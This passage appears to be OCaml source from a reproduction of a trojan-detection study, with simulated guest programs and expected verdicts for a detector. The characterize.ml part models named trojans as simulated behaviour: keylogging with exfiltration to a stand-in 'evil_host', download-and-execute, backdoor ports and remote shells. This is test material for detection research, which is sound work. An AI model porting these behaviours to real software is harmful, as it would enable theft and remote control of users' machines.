    - pwsafe: a password-database manager printing entries to stdout;
      the trojaned version also sends the database to a hard-coded
      remote host;
    - mw: a dictionary-lookup script that forks helpers; the trojaned
      version forks more than twenty children (resource abuse);
    - Tic-Tac-Toe: a console game; the trojaned version drops a
      hard-coded payload into a file and executes it (the exec fails
      with ENOEXEC — the dropped file is not a valid image — exactly as
      in the paper's footnote 9). *)

val scenarios : Scenario.t list
