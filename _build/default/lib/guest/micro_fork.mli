(** Table 5 — resource-abuse micro-benchmarks.

    [loop forker]: one main thread forks children that loop and sleep.
    [tree forker]: every process (parent and child) keeps forking,
    growing a process tree.  Both must trip the clone count (Low) and
    clone rate (Medium) rules. *)

val scenarios : Scenario.t list
