(** Shared guest-corpus pieces: standard bases, trivial executables and
    well-known remote hosts. *)

(** Load base for main executables. *)
val exe_base : int

(** Load base for auxiliary shared objects (libX11 etc.). *)
val so_base : int

(** [trivial ?output path] is an executable that optionally prints
    [output] and exits 0 — stands in for /bin/true, cc1plus, crontab and
    friends. *)
val trivial : ?output:string -> string -> Binary.Image.t

(** Well-known simulated remote hosts (name, ip). *)

val evil_host : string * int

val data_host : string * int

val sink_host : string * int

(** [all_hosts] is every entry above, ready for a session setup. *)
val all_hosts : (string * int) list
