type expected =
  | Benign
  | Malicious of Secpert.Severity.t

type t = {
  sc_name : string;
  sc_group : string;
  sc_descr : string;
  sc_setup : Hth.Session.setup;
  sc_expected : expected;
}

let make ~name ~group ~descr ~expected setup =
  { sc_name = name; sc_group = group; sc_descr = descr; sc_setup = setup;
    sc_expected = expected }

let expected_label = function
  | Benign -> "benign"
  | Malicious s -> Fmt.str "suspicious[%s]" (Secpert.Severity.label s)

let matches expected (verdict : Hth.Report.verdict) =
  match expected, verdict with
  | Benign, Hth.Report.Benign -> true
  | Malicious s, Hth.Report.Suspicious s' -> Secpert.Severity.equal s s'
  | (Benign | Malicious _), _ -> false

let run ?monitor_config sc = Hth.Session.run ?monitor_config sc.sc_setup

let passes sc = matches sc.sc_expected (Hth.Report.verdict (run sc))
