(** An instruction-dense workload for the Section 9 performance study: a
    copy/checksum kernel over file data, dominated by memory moves and
    ALU work so per-instruction monitoring cost is visible, with file
    I/O at both ends. *)

(** [scenario ~iters] copies and checksums a 64-byte buffer [iters]
    times (roughly [560 * iters] instructions). *)
val scenario : iters:int -> Scenario.t
