open Asm

let prologue u =
  space u "__scratch" 64;
  space u "__buf" 256

let int80 = Asm.int80

let sys_exit u code =
  movl u eax (imm Osim.Abi.sys_exit);
  movl u ebx (imm code);
  int80 u

let sys_fork u =
  movl u eax (imm Osim.Abi.sys_fork);
  int80 u

let sys_execve u ~path ?(argv = imm 0) () =
  movl u ebx path;
  movl u ecx argv;
  movl u eax (imm Osim.Abi.sys_execve);
  int80 u

let sys_sleep u ticks =
  movl u eax (imm Osim.Abi.sys_nanosleep);
  movl u ebx (imm ticks);
  int80 u

let sys_getpid u =
  movl u eax (imm Osim.Abi.sys_getpid);
  int80 u

let sys_open u ~path ~flags =
  movl u ebx path;
  movl u ecx (imm flags);
  movl u eax (imm Osim.Abi.sys_open);
  int80 u

let sys_creat u ~path =
  movl u ebx path;
  movl u eax (imm Osim.Abi.sys_creat);
  int80 u

let sys_close u ~fd =
  movl u ebx fd;
  movl u eax (imm Osim.Abi.sys_close);
  int80 u

let rw nr u ~fd ~buf ~len =
  movl u ebx fd;
  movl u ecx buf;
  movl u edx len;
  movl u eax (imm nr);
  int80 u

let sys_read = rw Osim.Abi.sys_read
let sys_write = rw Osim.Abi.sys_write

(* socketcall: write the argument words into __scratch, point ecx at it *)
let socketcall u sub args =
  List.iteri (fun i a -> movl u (mlbl ~off:(4 * i) "__scratch") a) args;
  movl u ebx (imm sub);
  movl u ecx (lbl "__scratch");
  movl u eax (imm Osim.Abi.sys_socketcall);
  int80 u

let sys_socket u = socketcall u Osim.Abi.sock_socket [ imm 2; imm 1; imm 0 ]

let sys_connect u ~fd ~addr =
  socketcall u Osim.Abi.sock_connect
    [ fd; addr; imm Osim.Abi.sockaddr_size ]

let sys_bind u ~fd ~addr =
  socketcall u Osim.Abi.sock_bind [ fd; addr; imm Osim.Abi.sockaddr_size ]

let sys_listen u ~fd = socketcall u Osim.Abi.sock_listen [ fd; imm 8 ]

let sys_accept u ~fd = socketcall u Osim.Abi.sock_accept [ fd; imm 0; imm 0 ]

let sys_send u ~fd ~buf ~len =
  socketcall u Osim.Abi.sock_send [ fd; buf; len; imm 0 ]

let sys_recv u ~fd ~buf ~len =
  socketcall u Osim.Abi.sock_recv [ fd; buf; len; imm 0 ]

let static_sockaddr u name ~ip ~port =
  let b = Bytes.create 8 in
  Bytes.set_int32_le b 0 (Int32.of_int ip);
  Bytes.set_uint16_le b 4 (port land 0xFFFF);
  Bytes.set_uint16_le b 6 0;
  bytes_ u name (Bytes.to_string b)

let build_sockaddr ?(at = 32) u ~ip_src ~port =
  (* sockaddr assembled at __scratch+at: 4 IP bytes then the port word *)
  movl u ebx ip_src;  (* ebx := pointer to the 4 ip bytes *)
  movl u ebx (ind EBX);  (* ebx := the ip word itself *)
  movl u (mlbl ~off:at "__scratch") ebx;
  movl u (mlbl ~off:(at + 4) "__scratch") port;
  movl u eax (lbl "__scratch");
  addl u eax (imm at)

let save_argv u n label =
  movl u ecx (ind_off ESP (4 * (n + 1)));
  movl u (mlbl label) ecx

let save_env u n dst =
  (* the env vector follows argv's NULL terminator on the initial stack:
     [argc][argv...][0][env...][0] *)
  let scan = "__se_scan_" ^ dst in
  movl u ecx esp;
  addl u ecx (imm 4);  (* skip argc *)
  label u scan;
  movl u ebx (ind ECX);
  addl u ecx (imm 4);
  testl u ebx ebx;
  jnz u scan;
  movl u ecx (ind_off ECX (4 * n));
  movl u (mlbl dst) ecx

let parse_int u ~id ~src ~dst =
  let loop = "__pi_loop_" ^ id and done_ = "__pi_done_" ^ id in
  xorl u (Reg dst) (Reg dst);
  label u loop;
  movb u ebx (ind src);
  testl u ebx ebx;
  jz u done_;
  imull u (Reg dst) (imm 10);
  subl u ebx (imm 48);
  addl u (Reg dst) ebx;
  incl u (Reg src);
  jmp u loop;
  label u done_

let strlen u ~id ~src ~dst =
  let loop = "__sl_loop_" ^ id and done_ = "__sl_done_" ^ id in
  xorl u (Reg dst) (Reg dst);
  label u loop;
  movb u ebx (idx src dst 1 0);
  testl u ebx ebx;
  jz u done_;
  incl u (Reg dst);
  jmp u loop;
  label u done_

let print u name s =
  asciz u name s;
  sys_write u ~fd:(imm 1) ~buf:(lbl name) ~len:(imm (String.length s))
