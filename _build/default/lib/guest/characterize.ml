open Asm

let group = "table1"

let high = Scenario.Malicious Secpert.Severity.High

let setup = Hth.Session.setup

let send_close host s : Osim.Net.actor =
  { actor_host = host; script = [ Osim.Net.Send s; Osim.Net.Close ] }

let passive host : Osim.Net.actor = { actor_host = host; script = [] }

(* Shared emission helpers.  All use the standard scratch labels. *)

(* connect to a hard-coded address; connected fd left in the word [fdl] *)
let connect_hard u ~sa ~fdl =
  Runtime.sys_socket u;
  movl u (mlbl fdl) eax;
  Runtime.sys_connect u ~fd:(mlbl fdl) ~addr:(lbl sa)

(* bind a hard-coded LocalHost address, accept one connection *)
let serve_hard u ~sa ~lfdl ~cfdl =
  Runtime.sys_socket u;
  movl u (mlbl lfdl) eax;
  Runtime.sys_bind u ~fd:(mlbl lfdl) ~addr:(lbl sa);
  Runtime.sys_listen u ~fd:(mlbl lfdl);
  Runtime.sys_accept u ~fd:(mlbl lfdl);
  movl u (mlbl cfdl) eax

(* recv into __buf, length saved in [n] *)
let recv_buf u ~fdl =
  Runtime.sys_recv u ~fd:(mlbl fdl) ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax

(* write __buf[0..n) into a freshly created file named by label [name] *)
let drop_buf u ~name ~fdl =
  Runtime.sys_creat u ~path:(lbl name);
  movl u (mlbl fdl) eax;
  Runtime.sys_write u ~fd:(mlbl fdl) ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_close u ~fd:(mlbl fdl)

let std_spaces u =
  Runtime.prologue u;
  space u "fd1" 4;
  space u "fd2" 4;
  space u "fd3" 4;
  space u "n" 4

(* ---------------- PWSteal.Tarno.Q ---------------- *)
(* Logs keystrokes to a hard-coded file, then periodically sends the
   collected file to a predefined address. *)
let pwsteal_exe =
  let u = create ~path:"/trojans/pwsteal" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "keyfile" "/tmp/.keys";
  Runtime.static_sockaddr u "collector" ~ip:(snd Common.evil_host) ~port:80;
  label u "_start";
  (* capture keystrokes *)
  Runtime.sys_read u ~fd:(imm 0) ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  drop_buf u ~name:"keyfile" ~fdl:"fd1";
  (* later: read the log back and exfiltrate it *)
  Runtime.sys_open u ~path:(lbl "keyfile") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd1") eax;
  Runtime.sys_read u ~fd:(mlbl "fd1") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  connect_hard u ~sa:"collector" ~fdl:"fd2";
  Runtime.sys_send u ~fd:(mlbl "fd2") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let pwsteal =
  Scenario.make ~name:"PWSteal.Tarno.Q" ~group
    ~descr:"keylogger: hard-coded log file exfiltrated to a predefined \
            address"
    ~expected:high
    (setup ~programs:[ pwsteal_exe ] ~hosts:Common.all_hosts
       ~user_input:[ "bank password 1234\n" ]
       ~servers:[ fst Common.evil_host, 80, passive (fst Common.evil_host) ]
       ~main:"/trojans/pwsteal" ())

(* ---------------- Trojan.Lodeight.A ---------------- *)
let lodeight_exe =
  let u = create ~path:"/trojans/lodeight" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "dropname" "/tmp/beagle.exe";
  Runtime.static_sockaddr u "dl" ~ip:(snd Common.evil_host) ~port:80;
  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Session.localhost_ip ~port:1084;
  label u "_start";
  (* download a remote file and execute it *)
  connect_hard u ~sa:"dl" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  drop_buf u ~name:"dropname" ~fdl:"fd2";
  Runtime.sys_execve u ~path:(lbl "dropname") ();
  (* the dropped file is not a valid image; open the backdoor *)
  serve_hard u ~sa:"bdoor" ~lfdl:"fd1" ~cfdl:"fd2";
  recv_buf u ~fdl:"fd2";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let lodeight =
  Scenario.make ~name:"Trojan.Lodeight.A" ~group
    ~descr:"downloads and executes a remote file, opens a backdoor on \
            TCP 1084"
    ~expected:high
    (setup ~programs:[ lodeight_exe ] ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           send_close (fst Common.evil_host) "MZbeagle-worm-payload" ]
       ~incoming:[ 1084, send_close "attacker" "PING" ]
       ~main:"/trojans/lodeight" ())

(* ---------------- W32.Mytob.J@mm ---------------- *)
let mytob_exe =
  let u = create ~path:"/trojans/mytob" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "self" "/trojans/mytob";
  asciz u "syscopy" "/windows/system/mytob.exe";
  Runtime.static_sockaddr u "irc" ~ip:(snd Common.evil_host) ~port:6667;
  label u "_start";
  (* copy itself into the system folder *)
  Runtime.sys_open u ~path:(lbl "self") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd1") eax;
  Runtime.sys_read u ~fd:(mlbl "fd1") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  drop_buf u ~name:"syscopy" ~fdl:"fd2";
  (* join the predefined IRC channel and take commands *)
  connect_hard u ~sa:"irc" ~fdl:"fd3";
  recv_buf u ~fdl:"fd3";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let mytob =
  Scenario.make ~name:"W32.Mytob.J@mm" ~group
    ~descr:"copies itself to the system folder; IRC channel commands \
            remote execution"
    ~expected:high
    (setup
       ~programs:[ mytob_exe; Common.trivial "/bin/true" ]
       ~files:[ "/trojans/mytob", "MZ-mytob-self-bytes" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 6667,
           send_close (fst Common.evil_host) "/bin/true\000" ]
       ~main:"/trojans/mytob" ())

(* ---------------- Trojan.Vundo ---------------- *)
let vundo_exe =
  let u = create ~path:"/trojans/vundo" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "adware" "/windows/addons/vundo.dll";
  Runtime.static_sockaddr u "ads" ~ip:(snd Common.evil_host) ~port:80;
  label u "_start";
  (* download the adware component from a specified IP *)
  connect_hard u ~sa:"ads" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  drop_buf u ~name:"adware" ~fdl:"fd2";
  (* degrade performance *)
  movl u edi (imm 10);
  label u "spawn";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  decl u edi;
  jnz u "spawn";
  Runtime.print u "ad" "BUY NOW!!!\n";
  Runtime.sys_exit u 0;
  label u "child";
  Runtime.sys_sleep u 100;
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let vundo =
  Scenario.make ~name:"Trojan.Vundo" ~group
    ~descr:"drops a downloaded adware component and degrades performance"
    ~expected:high
    (setup ~programs:[ vundo_exe ] ~hosts:Common.all_hosts
       ~max_ticks:200_000
       ~servers:
         [ fst Common.evil_host, 80,
           send_close (fst Common.evil_host) "MZ-vundo-adware-component" ]
       ~main:"/trojans/vundo" ())

(* ---------------- Windows-update.com ---------------- *)
let winupdate_exe =
  let u = create ~path:"/trojans/winupdate" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ~needed:[ Libc.path ] ()
  in
  std_spaces u;
  asciz u "dropname" "/tmp/update.exe";
  space u "cfghost" 32;
  Runtime.static_sockaddr u "fake" ~ip:(snd Common.evil_host) ~port:80;
  Runtime.static_sockaddr u "cfg" ~ip:(snd Common.data_host) ~port:80;
  label u "_start";
  (* 1. download and execute an executable *)
  connect_hard u ~sa:"fake" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  drop_buf u ~name:"dropname" ~fdl:"fd2";
  Runtime.sys_execve u ~path:(lbl "dropname") ();
  (* 2. fetch configuration: the name of a third host *)
  connect_hard u ~sa:"cfg" ~fdl:"fd1";
  Runtime.sys_recv u ~fd:(mlbl "fd1") ~buf:(lbl "cfghost") ~len:(imm 31);
  (* 3. connect to the host the configuration names *)
  pushl u (lbl "cfghost");
  call u "gethostbyname";
  addl u esp (imm 4);
  testl u eax eax;
  jz u "fail";
  Runtime.build_sockaddr u ~ip_src:eax ~port:(imm 80);
  movl u (mlbl "fd3") eax;
  Runtime.sys_socket u;
  movl u (mlbl "fd2") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd2") ~addr:(mlbl "fd3");
  recv_buf u ~fdl:"fd2";
  label u "fail";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let winupdate =
  Scenario.make ~name:"Windows-update.com" ~group
    ~descr:"fake update site: staged downloads through config-named hosts"
    ~expected:high
    (setup
       ~programs:[ winupdate_exe; Libc.image () ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           send_close (fst Common.evil_host) "MZ-stage1-trojan";
           fst Common.data_host, 80,
           send_close (fst Common.data_host) (fst Common.sink_host ^ "\000");
           fst Common.sink_host, 80,
           send_close (fst Common.sink_host) "MZ-custom-trojan" ]
       ~main:"/trojans/winupdate" ())

(* ---------------- W32/MyDoom.B ---------------- *)
let mydoom_exe =
  let u = create ~path:"/trojans/mydoom" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "regkey" "/windows/registry/Run.ctfmon";
  asciz u "regval" "ctfmon.dll";
  Runtime.static_sockaddr u "bdoor" ~ip:Hth.Session.localhost_ip ~port:3127;
  Runtime.static_sockaddr u "relay" ~ip:(snd Common.sink_host) ~port:25;
  label u "_start";
  (* persistence: registry run key *)
  Runtime.sys_creat u ~path:(lbl "regkey");
  movl u (mlbl "fd1") eax;
  Runtime.sys_write u ~fd:(mlbl "fd1") ~buf:(lbl "regval") ~len:(imm 10);
  Runtime.sys_close u ~fd:(mlbl "fd1");
  (* backdoor + TCP proxy: accepted bytes are relayed outward *)
  serve_hard u ~sa:"bdoor" ~lfdl:"fd1" ~cfdl:"fd2";
  recv_buf u ~fdl:"fd2";
  connect_hard u ~sa:"relay" ~fdl:"fd3";
  Runtime.sys_send u ~fd:(mlbl "fd3") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let mydoom =
  Scenario.make ~name:"W32/MyDoom.B" ~group
    ~descr:"registry persistence, backdoor port, TCP proxy relay"
    ~expected:high
    (setup ~programs:[ mydoom_exe ] ~hosts:Common.all_hosts
       ~servers:[ fst Common.sink_host, 25, passive (fst Common.sink_host) ]
       ~incoming:[ 3127, send_close "attacker" "RELAY me anywhere" ]
       ~main:"/trojans/mydoom" ())

(* ---------------- Phatbot ---------------- *)
let phatbot_exe =
  let u = create ~path:"/trojans/phatbot" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  asciz u "cdkeys" "/windows/keys.dat";
  Runtime.static_sockaddr u "p2p" ~ip:(snd Common.evil_host) ~port:4387;
  label u "_start";
  connect_hard u ~sa:"p2p" ~fdl:"fd1";
  (* command 1: steal CD keys *)
  Runtime.sys_open u ~path:(lbl "cdkeys") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd2") eax;
  Runtime.sys_read u ~fd:(mlbl "fd2") ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  Runtime.sys_send u ~fd:(mlbl "fd1") ~buf:(lbl "__buf") ~len:(mlbl "n");
  (* command 2: run a remote-named command *)
  recv_buf u ~fdl:"fd1";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let phatbot =
  Scenario.make ~name:"Phatbot" ~group
    ~descr:"p2p-controlled bot: steals CD keys, executes remote commands"
    ~expected:high
    (setup
       ~programs:[ phatbot_exe; Common.trivial "/bin/true" ]
       ~files:[ "/windows/keys.dat", "XXXX-YYYY-ZZZZ-GAME-KEY" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 4387,
           { Osim.Net.actor_host = fst Common.evil_host;
             script =
               [ Osim.Net.Expect 23; Osim.Net.Send "/bin/true\000" ] } ]
       ~main:"/trojans/phatbot" ())

(* ---------------- Sendmail distribution Trojan ---------------- *)
let sendmail_exe =
  let u = create ~path:"/build/sendmail-build"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  std_spaces u;
  Runtime.static_sockaddr u "c2" ~ip:(snd Common.evil_host) ~port:6667;
  label u "_start";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "payload";
  (* the parent looks like a normal build *)
  Runtime.print u "bmsg" "Compiling sendmail...\n";
  Runtime.sys_exit u 0;
  label u "payload";
  (* forked process gives the intruder a shell *)
  connect_hard u ~sa:"c2" ~fdl:"fd1";
  recv_buf u ~fdl:"fd1";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let sendmail =
  Scenario.make ~name:"Sendmail Trojan" ~group
    ~descr:"build process forks a shell connected to port 6667"
    ~expected:high
    (setup
       ~programs:[ sendmail_exe; Common.trivial "/bin/sh" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 6667,
           send_close (fst Common.evil_host) "/bin/sh\000" ]
       ~main:"/build/sendmail-build" ())

(* ---------------- TCP Wrappers Trojan ---------------- *)
let tcpwrap_exe =
  let u = create ~path:"/sbin/tcpd" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  std_spaces u;
  Runtime.static_sockaddr u "listen421" ~ip:Hth.Session.localhost_ip
    ~port:421;
  label u "_start";
  serve_hard u ~sa:"listen421" ~lfdl:"fd1" ~cfdl:"fd2";
  (* identify the compromised site: whoami / uname -a, modelled by the
     hardware-identification instruction *)
  cpuid u;
  movl u (mlbl "__buf") eax;
  movl u (mlbl ~off:4 "__buf") ebx;
  movl u (mlbl ~off:8 "__buf") ecx;
  movl u (mlbl ~off:12 "__buf") edx;
  Runtime.sys_send u ~fd:(mlbl "fd2") ~buf:(lbl "__buf") ~len:(imm 16);
  (* intruders from port 421 get a root shell *)
  recv_buf u ~fdl:"fd2";
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let tcpwrap =
  Scenario.make ~name:"TCP Wrappers Trojan" ~group
    ~descr:"backdoor wrapper: leaks system identity, remote root shell"
    ~expected:high
    (setup
       ~programs:[ tcpwrap_exe; Common.trivial "/bin/sh" ]
       ~incoming:
         [ 421,
           { Osim.Net.actor_host = "intruder";
             script = [ Osim.Net.Expect 16; Osim.Net.Send "/bin/sh\000" ] } ]
       ~main:"/sbin/tcpd" ())

let scenarios =
  [ pwsteal; lodeight; mytob; vundo; winupdate; mydoom; phatbot; sendmail;
    tcpwrap ]
