open Asm

let group = "table4"

(* execve a program whose name arrived in argv[1] *)
let user_input_exe =
  let u = create ~path:"/bin/exec_user" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  space u "argp" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  Runtime.sys_execve u ~path:(mlbl "argp") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let user_input =
  Scenario.make ~name:"User input" ~group
    ~descr:"execve of a program named on the command line"
    ~expected:Scenario.Benign
    (Hth.Session.setup
       ~programs:[ user_input_exe; Common.trivial "/bin/true" ]
       ~argv:[ "/bin/exec_user"; "/bin/true" ]
       ~main:"/bin/exec_user" ())

(* execve a hard-coded program name *)
let hardcode_exe =
  let u = create ~path:"/bin/exec_hard" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  asciz u "prog" "/bin/true";
  label u "_start";
  Runtime.sys_execve u ~path:(lbl "prog") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let hardcode =
  Scenario.make ~name:"Hardcode" ~group
    ~descr:"execve of a hard-coded program name"
    ~expected:(Scenario.Malicious Secpert.Severity.Low)
    (Hth.Session.setup ~programs:[ hardcode_exe; Common.trivial "/bin/true" ]
       ~main:"/bin/exec_hard" ())

(* execve a program name received over a hard-coded socket *)
let remote_exe =
  let u = create ~path:"/bin/exec_remote" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  Runtime.static_sockaddr u "srv" ~ip:(snd Common.evil_host) ~port:4000;
  label u "_start";
  Runtime.sys_socket u;
  movl u esi eax;
  Runtime.sys_connect u ~fd:esi ~addr:(lbl "srv");
  Runtime.sys_recv u ~fd:esi ~buf:(lbl "__buf") ~len:(imm 64);
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let remote =
  Scenario.make ~name:"Remote execve" ~group
    ~descr:"execve of a program name received from a remote attacker"
    ~expected:(Scenario.Malicious Secpert.Severity.High)
    (Hth.Session.setup
       ~programs:[ remote_exe; Common.trivial "/bin/true" ]
       ~hosts:Common.all_hosts
       ~servers:
         [ ( fst Common.evil_host, 4000,
             { Osim.Net.actor_host = fst Common.evil_host;
               script = [ Osim.Net.Send "/bin/true\000"; Osim.Net.Close ] } )
         ]
       ~main:"/bin/exec_remote" ())

(* hard-coded execve executed late and rarely *)
let infrequent_exe =
  let u = create ~path:"/bin/exec_rare" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  asciz u "prog" "/bin/true";
  label u "_start";
  Runtime.sys_sleep u 2500;
  Runtime.sys_execve u ~path:(lbl "prog") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let infrequent =
  Scenario.make ~name:"Infrequent execve" ~group
    ~descr:"hard-coded execve in code that runs rarely, late in execution"
    ~expected:(Scenario.Malicious Secpert.Severity.Medium)
    (Hth.Session.setup
       ~programs:[ infrequent_exe; Common.trivial "/bin/true" ]
       ~main:"/bin/exec_rare" ())

let scenarios = [ user_input; hardcode; remote; infrequent ]
