(** Scenarios for the Section 10 future-work features implemented in this
    reproduction:

    - {b memory abuse} (item 4): a process that grows its heap without
      bound via [brk];
    - {b content analysis} (item 5): a downloader that writes executable
      content (MZ magic) fetched from the network into a file the {e
      user} named — invisible to the name-origin matrix, caught by
      content inspection. *)

val scenarios : Scenario.t list
