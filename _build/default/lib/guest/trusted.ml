open Asm

let group = "table7"

let benign = Scenario.Benign
let low = Scenario.Malicious Secpert.Severity.Low

let setup = Hth.Session.setup

(* A "cat"-shaped body: open the file whose pointer is in the word at
   [name_lbl], copy its contents to stdout. *)
let cat_body u ~name_lbl =
  Runtime.sys_open u ~path:(mlbl name_lbl) ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  label u ("loop_" ^ name_lbl);
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 64);
  testl u eax eax;
  jz u ("done_" ^ name_lbl);
  js u ("done_" ^ name_lbl);
  Runtime.sys_write u ~fd:(imm 1) ~buf:(lbl "__buf") ~len:eax;
  jmp u ("loop_" ^ name_lbl);
  label u ("done_" ^ name_lbl);
  Runtime.sys_close u ~fd:(mlbl "fd")

(* ---------------- ls ---------------- *)
let ls_exe =
  let u = create ~path:"/bin/ls" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "dot" ".";
  space u "dotp" 4;
  space u "fd" 4;
  label u "_start";
  movl u (mlbl "dotp") (lbl "dot");
  cat_body u ~name_lbl:"dotp";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let ls =
  Scenario.make ~name:"ls" ~group
    ~descr:"lists '.' (hard-coded name, but nothing bad done with it)"
    ~expected:benign
    (setup ~programs:[ ls_exe ] ~files:[ ".", "DataFlow.C\nmakefile\n" ]
       ~main:"/bin/ls" ())

(* ---------------- column a b c ---------------- *)
let column_exe =
  let u = create ~path:"/usr/bin/column" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  space u "a1" 4;
  space u "a2" 4;
  space u "a3" 4;
  space u "fd" 4;
  label u "_start";
  Runtime.save_argv u 1 "a1";
  Runtime.save_argv u 2 "a2";
  Runtime.save_argv u 3 "a3";
  cat_body u ~name_lbl:"a1";
  cat_body u ~name_lbl:"a2";
  cat_body u ~name_lbl:"a3";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let column =
  Scenario.make ~name:"column" ~group
    ~descr:"columnates three user-named files to stdout" ~expected:benign
    (setup ~programs:[ column_exe ]
       ~files:[ "a", "alpha\n"; "b", "beta\n"; "c", "gamma\n" ]
       ~argv:[ "/usr/bin/column"; "a"; "b"; "c" ]
       ~main:"/usr/bin/column" ())

(* ---------------- make ---------------- *)
(* Reads "makefile" (hard-coded).  With argv[1] = "clean" it execs
   /bin/sh; with the object file missing it execs g++; otherwise it does
   nothing — the three behaviours of Section 8.2.3. *)
let make_exe =
  let u = create ~path:"/usr/bin/make" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "mkf" "makefile";
  asciz u "objf" "harrier.o";
  asciz u "shp" "/bin/sh";
  asciz u "gxxp" "/usr/bin/g++";
  space u "argp" 4;
  space u "fd" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  (* read the makefile *)
  Runtime.sys_open u ~path:(lbl "mkf") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 64);
  Runtime.sys_close u ~fd:(mlbl "fd");
  (* "clean" target? *)
  movl u ecx (mlbl "argp");
  testl u ecx ecx;
  jz u "no_clean";
  movb u ebx (ind ECX);
  cmpb u ebx (imm (Char.code 'c'));
  jnz u "no_clean";
  (* make clean: sh -c "rm -f ..." *)
  Runtime.sys_fork u;
  testl u eax eax;
  jnz u "finish";
  Runtime.sys_execve u ~path:(lbl "shp") ();
  Runtime.sys_exit u 127;
  label u "no_clean";
  (* is the object built? *)
  Runtime.sys_open u ~path:(lbl "objf") ~flags:Osim.Abi.o_rdonly;
  testl u eax eax;
  js u "rebuild";
  movl u ebx eax;
  movl u eax (imm Osim.Abi.sys_close);
  int80 u;
  jmp u "finish";
  label u "rebuild";
  Runtime.sys_fork u;
  testl u eax eax;
  jnz u "finish";
  Runtime.sys_execve u ~path:(lbl "gxxp") ();
  Runtime.sys_exit u 127;
  label u "finish";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let make_progs =
  [ make_exe; Common.trivial "/bin/sh"; Common.trivial "/usr/bin/g++" ]

let make_built =
  Scenario.make ~name:"make (built)" ~group
    ~descr:"everything up to date: reads makefile, runs nothing"
    ~expected:benign
    (setup ~programs:make_progs
       ~files:[ "makefile", "all: harrier.o\n"; "harrier.o", "\x7fobj" ]
       ~main:"/usr/bin/make" ())

let make_clean =
  Scenario.make ~name:"make clean" ~group
    ~descr:"runs /bin/sh with a hard-coded path (paper: Low warning)"
    ~expected:low
    (setup ~programs:make_progs
       ~files:[ "makefile", "all: harrier.o\n"; "harrier.o", "\x7fobj" ]
       ~argv:[ "/usr/bin/make"; "clean" ]
       ~main:"/usr/bin/make" ())

let make_unbuilt =
  Scenario.make ~name:"make (unbuilt)" ~group
